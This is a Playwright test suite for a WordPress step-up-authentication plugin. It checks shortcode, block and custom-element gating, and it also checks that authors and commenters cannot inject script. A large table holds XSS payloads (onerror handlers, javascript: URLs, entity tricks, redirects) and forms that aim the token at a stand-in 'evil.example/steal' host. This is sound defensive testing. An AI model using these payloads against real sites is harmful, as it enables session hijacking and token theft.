import { strict as assert } from 'node:assert';
import { after, before, describe, it } from 'node:test';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import type { RunningDemo } from '../demo/running-demo.js';
import { startChromium } from '../emulator/chromium.js';
import { startProvider } from './support/emulated-provider.js';
import { completeSignIn, completeStepUp } from './support/member.js';
import { addUser, signInAt, type WordPressUser } from './support/wordpress-user.js';
import { startWordPress, type WordPress } from './support/wordpress.js';

const OLIVIA = 'olivia@example.test';

let wordpress: WordPress;
let provider: RunningDemo;
let browser: Browser;
let author: WordPressUser;
let editor: WordPressUser;

before(async () => {
  [wordpress, browser] = await Promise.all([startWordPress(), startChromium()]);
  provider = await startProvider(wordpress);
  addUser(wordpress, 'ann', 'author', 'ann@example.test');
  addUser(wordpress, 'eddie', 'editor', 'eddie@example.test');
  author = await signInAt(wordpress, 'ann');
  editor = await signInAt(wordpress, 'eddie');
});
after(async () => {
  await browser?.close();
  await provider?.stop();
  await wordpress?.stop();
});

/** What a visit of a page has shown. */
interface Visit {
  page: Page;
  /** Errors of the page itself. */
  problems: string[];
  /** How often something on a page has set `window.hacked`. */
  hacked: number;
  /** Where requests went that were none of the site's or the provider's. */
  elsewhere: string[];
  /** Where the member's token went. */
  tokenSentTo: Set<string>;
}

async function visit(
  address: string,
  act: (visit: Visit) => Promise<void>,
  options: { cookie?: string } = {},
): Promise<void> {
  const context: BrowserContext = await browser.newContext();
  context.setDefaultTimeout(30_000);
  const cookies = (options.cookie?.split('; ') ?? []).map(line => {
    const [name, value] = line.split(/=(.*)/s) as [string, string];
    return { name, value, url: wordpress.origin };
  });
  await context.addCookies(cookies);
  const page = await context.newPage();
  const found: Visit = { page, problems: [], hacked: 0, elsewhere: [], tokenSentTo: new Set() };
  page.on('pageerror', error => found.problems.push(error.message));
  await context.exposeFunction('tellOfHack', () => void (found.hacked += 1));
  await context.addInitScript(`Object.defineProperty(window, 'hacked', { set: () => window.tellOfHack() })`);
  context.on('request', request => {
    const { origin, protocol, pathname } = new URL(request.url());
    if (!/^https?:$/.test(protocol)) return;
    if (![wordpress.origin, provider.origin].includes(origin)) found.elsewhere.push(request.url());
    if (request.headers().authorization) found.tokenSentTo.add(origin + pathname);
  });
  try {
    await page.goto(address, { waitUntil: 'domcontentloaded' });
    await act(found);
  } finally {
    // Chromium may never say that a window is closed of which the page is just being left.
    await page.goto('about:blank').catch(() => undefined);
    await context.close();
  }
}

/** Deletes a document by the page's own button, as a member who is not signed in yet; gives what the site answered. */
async function deleteByButton({ page }: Visit): Promise<string> {
  await page.getByRole('button', { name: 'Delete invoice 1042' }).click();
  await completeSignIn(page, provider, OLIVIA);
  await completeStepUp(page, provider, OLIVIA);
  await page.locator('html[data-answer]').waitFor({ state: 'attached' });
  return page.evaluate(() => document.documentElement.dataset.answer!);
}

const BUTTON =
  '<button type="button" data-path="/wp-json/site/v1/documents/1042">Delete invoice 1042</button>';
const DONE = `200 ${JSON.stringify({ deleted: '1042', by: OLIVIA })}`;

describe("an editor's page", () => {
  it('holds a button in a shortcode back, and the route is passed with the proof', async () => {
    const address = await editor.publish(`[stepup resource="documents" action="delete"]${BUTTON}[/stepup]`);
    await visit(address, async found => {
      assert.equal(await deleteByButton(found), DONE);
      assert.deepEqual(found.problems, []);
      assert.deepEqual(
        [...found.tokenSentTo].filter(place => !place.startsWith(provider.origin)),
        [`${wordpress.origin}/wp-json/site/v1/documents/1042`],
      );
    });
  });

  it('has the script once, as a pinned module with the settings, and nothing waits for it unguarded', async () => {
    const address = await editor.publish(
      `[stepup resource="documents" action="delete"]${BUTTON}[/stepup] [stepup resource="documents" action="read"]${BUTTON}[/stepup]`,
    );
    const html = await (await fetch(address)).text();
    const tags = html.match(/<script[^>]*stepup-elements\.js[^>]*>/g)!;
    assert.equal(tags.length, 1);
    assert.match(tags[0]!, /type="module"/);
    assert.match(tags[0]!, /integrity="sha384-[\w+/]{64}"/);
    assert.ok(tags[0]!.includes(`data-project-id="${provider.projectId}"`));
    assert.ok(
      tags[0]!.includes(`data-sdk-src="${provider.origin}/emulator/${provider.projectId}/webworker.js"`),
    );
    assert.match(html.split('</head>')[0]!, /stepup-gate:not\(:defined\)\{visibility:hidden\}/);
  });

  it('guards a button that only has the attributes, which an author may write as well', async () => {
    const marked = BUTTON.replace(
      'data-path',
      'data-stepup-resource="documents" data-stepup-action="delete" data-path',
    );
    const address = await editor.publish(marked);
    assert.match(await (await fetch(address)).text(), /<script[^>]*stepup-elements\.js/);
  });

  it('has no script where there is no gate', async () => {
    const html = await (await fetch(await editor.publish('<p>Nothing to guard.</p>'))).text();
    assert.doesNotMatch(html, /<script[^>]*stepup-elements\.js/);
  });

  it('keeps its gate closed behind what is guarded, however WordPress has made paragraphs', async () => {
    const address = await editor.publish(
      `[stepup resource="documents" action="delete" max-age="5m" force]\n\nA text.\n\n${BUTTON}\n\n[/stepup]\n\nAfter it.`,
    );
    await visit(address, async ({ page }) => {
      const gate = page.locator('stepup-gate');
      assert.equal(await gate.getAttribute('max-age'), '5m');
      assert.equal(await gate.getAttribute('force'), '');
      assert.match((await gate.textContent())!, /A text\.\s+Delete invoice 1042/);
      assert.doesNotMatch((await gate.textContent())!, /After it/);
    });
  });

  it('is made with the block in the block editor, and works for a visitor', async () => {
    let address = '';
    await visit(
      `${wordpress.origin}/wp-admin/post-new.php`,
      async ({ page, problems }) => {
        const isThere = (): boolean => Boolean((window as any).wp?.blocks?.getBlockType('stepup/gate'));
        await page.waitForFunction(isThere);
        address = (await page.evaluate(async button => {
          const { blocks, data } = (window as any).wp;
          const html = blocks.createBlock('core/html', { content: button });
          const gate = { resource: 'documents', action: 'delete', comment: 'Delete invoice 1042' };
          data.dispatch('core/block-editor').insertBlocks(blocks.createBlock('stepup/gate', gate, [html]));
          data.dispatch('core/editor').editPost({ title: 'By block', status: 'publish' });
          await data.dispatch('core/editor').savePost();
          return data.select('core/editor').getPermalink();
        }, BUTTON)) as string;
        assert.deepEqual(problems, []);
      },
      { cookie: editor.cookie },
    );
    await visit(address, async found => {
      const gate = found.page.locator('stepup-gate');
      assert.equal(await gate.getAttribute('comment'), 'Delete invoice 1042');
      assert.equal(await found.page.locator('.wp-block-stepup-gate > stepup-gate').count(), 1);
      assert.equal(await deleteByButton(found), DONE);
    });
  });

  it('reveals what stands in a template until then', async () => {
    const address = await editor.publish(
      '[stepup mode="reveal" resource="documents" action="delete"]<p>The combination is 12.</p>[/stepup]',
    );
    await visit(address, async ({ page }) => {
      await page.locator('stepup-gate:defined').waitFor();
      assert.equal(await page.getByText('The combination is 12.').count(), 0);
      await page.locator('stepup-gate').getByRole('button').click();
      await completeSignIn(page, provider, OLIVIA);
      await completeStepUp(page, provider, OLIVIA);
      await page.getByText('The combination is 12.').waitFor();
    });
  });
});

const EVIL = 'https://evil.example';

/** What an author without `unfiltered_html` might write. Whatever runs would set `window.hacked`. */
const INJECTIONS: Record<string, string> = {
  'a quotation mark in the resource': `[stepup resource='documents" onclick="hacked=1' action="delete"]<button>B</button>[/stepup]`,
  'a tag in the action': `[stepup resource="documents" action='delete"><script>hacked=1</script>']<button>B</button>[/stepup]`,
  'a tag in the comment': `[stepup resource="documents" action="delete" comment='"><img src=x onerror=hacked=1>']<button>B</button>[/stepup]`,
  'an attribute in the max-age': `[stepup resource="documents" action="delete" max-age='1h" onfocus="hacked=1" tabindex="0']<button>B</button>[/stepup]`,
  'attributes that are not ours': `[stepup resource="documents" action="delete" onclick="hacked=1" console-url="${EVIL}/" style="position:fixed" data-sdk-src="${EVIL}/x.js" id="x"]<button>B</button>[/stepup]`,
  'markup between': `[stepup resource="documents" action="delete"]<img src=x onerror="hacked=1"><script>hacked=1</script></stepup-gate><mfa-setup-prompt open console-url="${EVIL}/"></mfa-setup-prompt>[/stepup]`,
  'a block with a quotation mark': `<!-- wp:stepup/gate {"resource":"documents\\u0022 onclick=\\u0022hacked=1","action":"delete","consoleUrl":"${EVIL}/"} --><p>B</p><!-- /wp:stepup/gate -->`,
  'a block with a tag in its comment': `<!-- wp:stepup/gate {"resource":"documents","action":"delete","comment":"\\u0022\\u003e\\u003cimg src=x onerror=hacked=1\\u003e"} --><p>B</p><!-- /wp:stepup/gate -->`,
  'a block whose attributes are objects': `<!-- wp:stepup/gate {"resource":{"a":1},"action":["delete"],"maxAge":{},"comment":["x"],"force":"1"} --><p>B</p><!-- /wp:stepup/gate -->`,
  'elements of ours': `<stepup-gate resource="documents" action="delete" console-url="${EVIL}/"><button>B</button></stepup-gate><mfa-setup-prompt open console-url="${EVIL}/"></mfa-setup-prompt>[stepup resource="documents" action="delete"]B[/stepup]`,
  'a script of ours': `<script type="module" src="/wp-content/plugins/stepup-elements/assets/stepup-elements.js" data-project-id="evil" data-sdk-src="${EVIL}/x.js"></script>[stepup resource="documents" action="delete"]B[/stepup]`,
  'names that stand in for the page’s own': `<img name="currentScript" src="x"><a id="body">A</a><img name="querySelector" src="x">[stepup resource="documents" action="delete"]<button>B</button>[/stepup]`,
  'a form that aims the token elsewhere': `[stepup resource="documents" action="delete"]<form action="${EVIL}/steal" method="post" data-stepup-fetch data-stepup-fetch-redirect="${EVIL}/"><button>B</button></form>[/stepup]`,
  'a form that aims it at another path': `[stepup resource="documents" action="delete"]<form action="/wp-json/wp/v2/users/me" method="post" data-stepup-fetch><button>B</button></form>[/stepup]`,
  'a link with a script, marked': `[stepup resource="documents" action="delete"]<a href="javascript:hacked=1" data-stepup-resource="documents" data-stepup-action="delete" data-stepup-console-url="${EVIL}/">B</a>[/stepup]`,
  'a shortcode in attributes': `<a href="[stepup resource='documents' action='delete']x[/stepup]" title='[stepup resource="documents" action="delete" comment="x onmouseover=hacked=1"]B[/stepup]'>B</a>[stepup resource="documents" action="delete"]<button>B</button>[/stepup]`,
  'a shortcode that ends in an attribute': `[stepup resource="documents" action="delete"]<a href="#" title="x[/stepup]<img src=x onerror=hacked=1> y">B</a>[/stepup]`,
  'shortcodes in shortcodes': `[stepup mode="reveal" resource="documents" action="delete"]</template></stepup-gate>[stepup resource='a" onclick="hacked=1' action="delete" comment="[stepup]"]<b title="[/stepup]" onclick="hacked=1">B</b>[/stepup]</stepup-gate>[/stepup]`,
  'addresses that are scripts': `[stepup resource="documents" action="delete"]<a href="data:text/html,<script>hacked=1</script>">A</a><a href="java&#09;script:hacked=1">B</a><button formaction="javascript:hacked=1" popovertarget="x">C</button><iframe src="javascript:hacked=1"></iframe><object data="javascript:hacked=1"></object><embed src="${EVIL}/x"><svg><use href="data:image/svg+xml,x#x"></use></svg>[/stepup]`,
  'a page that goes elsewhere': `<base href="${EVIL}/"><meta http-equiv="refresh" content="0;url=${EVIL}/"><link rel="stylesheet" href="${EVIL}/x.css"><link rel="modulepreload" href="${EVIL}/x.js">[stepup resource="documents" action="delete"]<button>B</button>[/stepup]`,
  'settings of the script, on anything': `<div id="stepup-elements-js" data-provider="oidc" data-issuer="${EVIL}" data-client-id="x" data-project-id="evil" data-sdk-src="${EVIL}/x.js" data-console-url="${EVIL}/" data-form-actions="/*" data-api-origins="${EVIL}">[stepup resource="documents" action="delete"]<button data-project-id="evil" data-sdk-src="${EVIL}/x.js" data-path="${EVIL.replace('https:', '')}/steal">B</button>[/stepup]</div>`,
  'slots, a language, and a look over the page': `<div lang="../../evil" dir="rtl" style="position:fixed;inset:0;z-index:9999">[stepup resource="documents" action="delete" style="position:fixed" slot="x"]<button slot="failed" style="position:fixed;inset:0" lang="de/../../x">B</button><p slot="setup-required" is="x-y">A</p>[/stepup]</div>`,
  'names of attributes that lead elsewhere': `[stepup resource="documents" action="delete" return-to="${EVIL}/" setup-url="${EVIL}/" is="mfa-setup-prompt" slot="failed" intercept="x" audit-tag="x" src="${EVIL}/x.js"]<a href="#" is="stepup-challenge" return-to="${EVIL}/" data-return-to="${EVIL}/" data-setup-url="${EVIL}/" data-stepup-return-to="${EVIL}/" data-stepup-resource="documents" data-stepup-action="delete">B</a>[/stepup]`,
  'entities for what is forbidden': `&#91;stepup resource="a" action="delete" comment="&quot;&gt;&lt;img src=x onerror=hacked=1&gt;"&#93;[stepup resource="documents" action="delete" comment="&quot; onclick=&quot;hacked=1&quot; x=&quot;&gt;&lt;img src=x onerror=hacked=1&gt;"]<a href="&#106;avascript&colon;hacked=1" title="&quot;onmouseover=hacked=1 x=&quot;">B</a>&lt;script&gt;hacked=1&lt;/script&gt;[/stepup]`,
  'tags that only come about when tags are balanced': `[stepup resource="documents" action="delete"]<b title="<!--">A</b><i title="--><img src=x onerror=hacked=1>">B</i><<b>img src=x onerror=hacked=1></b><p title="</p><img src=x onerror=hacked=1>"<em>C<a href="#">D[/stepup]`,
  'a shortcode in a shortcode of WordPress': `[caption width="9" caption='<img src=x onerror=hacked=1>'][stepup resource="documents" action="delete"]<button>B</button>[/stepup][/caption][stepup resource="documents" action="delete" comment="[caption]"][audio src="javascript:hacked=1"][embed]javascript:hacked=1[/embed]<button>C</button>[/stepup]`,
  'a block with what editors add': `<!-- wp:stepup/gate {"resource":"documents","action":"delete","style":{"position":{"type":"fixed"},"background":{"backgroundImage":{"url":"${EVIL}/x"}}},"className":"x\u0022 onclick=\u0022hacked=1","anchor":"x\u0022 onclick=\u0022hacked=1","tagName":"script","align":"x\u0022 onclick=\u0022hacked=1","layout":{"type":"x"},"lang":"x","data-sdk-src":"${EVIL}/x.js"} --><button>B</button><!-- /wp:stepup/gate -->`,
};

// What the element takes, what it reflects, and nothing that leads anywhere.
const OUR_ATTRIBUTES = 'resource action max-age cache-scope mode comment force state'.split(' ');

describe('an author who may not write scripts', () => {
  for (const [what, content] of Object.entries(INJECTIONS)) {
    it(`makes the page do nothing by ${what}`, async () => {
      const address = await author.publish(content);
      await visit(address, async found => {
        const { page } = found;
        await page.locator('stepup-gate:defined').first().waitFor();
        const attributes = await page
          .locator('stepup-gate')
          .evaluateAll(gates => gates.flatMap(gate => gate.getAttributeNames()));
        assert.deepEqual(
          attributes.filter(name => !OUR_ATTRIBUTES.includes(name)),
          [],
        );
        assert.equal(await page.locator('mfa-setup-prompt').count(), 0);
        const ours = page.locator('script[src*="stepup-elements.js"]');
        assert.equal(await ours.count(), 1);
        assert.equal(await ours.getAttribute('data-project-id'), provider.projectId);
        // Everything that can be clicked is, as a member who has stepped up.
        const things = page.locator('stepup-gate button, stepup-gate a, form button');
        for (let at = 0; at < (await things.count()); at++) {
          await things
            .nth(at)
            .click({ noWaitAfter: true, timeout: 3_000 })
            .catch(() => {});
          const login = page.locator('auth-login-modal');
          if (await appears(page, 'auth-login-modal, auth-idp-modal')) {
            if (await login.count()) await completeSignIn(page, provider, OLIVIA);
            await completeStepUp(page, provider, OLIVIA).catch(() => {});
          }
        }
        assert.equal(found.hacked, 0);
        assert.equal(new URL(page.url()).origin, wordpress.origin, 'nobody was led away');
        assert.deepEqual(found.elsewhere, []);
        assert.deepEqual(
          [...found.tokenSentTo].filter(place => !place.startsWith(`${provider.origin}/`)),
          [],
          'the token went to the provider alone',
        );
      });
    });
  }
});

describe('a visitor who comments', () => {
  it('marks nothing, and draws no gate', async () => {
    wordpress.run(
      `update_option( 'comment_previously_approved', 0 ); update_option( 'comment_moderation', 0 );`,
    );
    const address = await editor.publish(`[stepup resource="documents" action="delete"]${BUTTON}[/stepup]`);
    const post = /postid-(\d+)/.exec(await (await fetch(address)).text())![1]!;
    const written = `A word. [stepup resource="documents" action="delete"]<b>B</b>[/stepup] <a href="${EVIL}/" data-stepup-resource="documents" data-stepup-action="delete" onclick="hacked=1">C</a><stepup-gate resource="documents" action="read">D</stepup-gate><!-- wp:stepup/gate {"resource":"a","action":"read"} -->E<!-- /wp:stepup/gate -->`;
    const answer = await fetch(`${wordpress.origin}/wp-comments-post.php`, {
      method: 'POST',
      redirect: 'manual',
      body: new URLSearchParams({
        comment: written,
        author: 'V',
        email: 'v@example.test',
        comment_post_ID: post,
      }),
    });
    assert.equal(answer.status, 302);
    await visit(address, async ({ page }) => {
      await page.getByText('A word.').waitFor();
      assert.equal(await page.locator('stepup-gate').count(), 1);
      assert.equal(await page.locator('[data-stepup-resource], [onclick]').count(), 0);
    });
  });
});

/** Whether something is drawn within a moment; what is locked for good draws nothing. */
function appears(page: Page, selector: string): Promise<boolean> {
  return page
    .locator(selector)
    .first()
    .waitFor({ timeout: 1_500 })
    .then(
      () => true,
      () => false,
    );
}
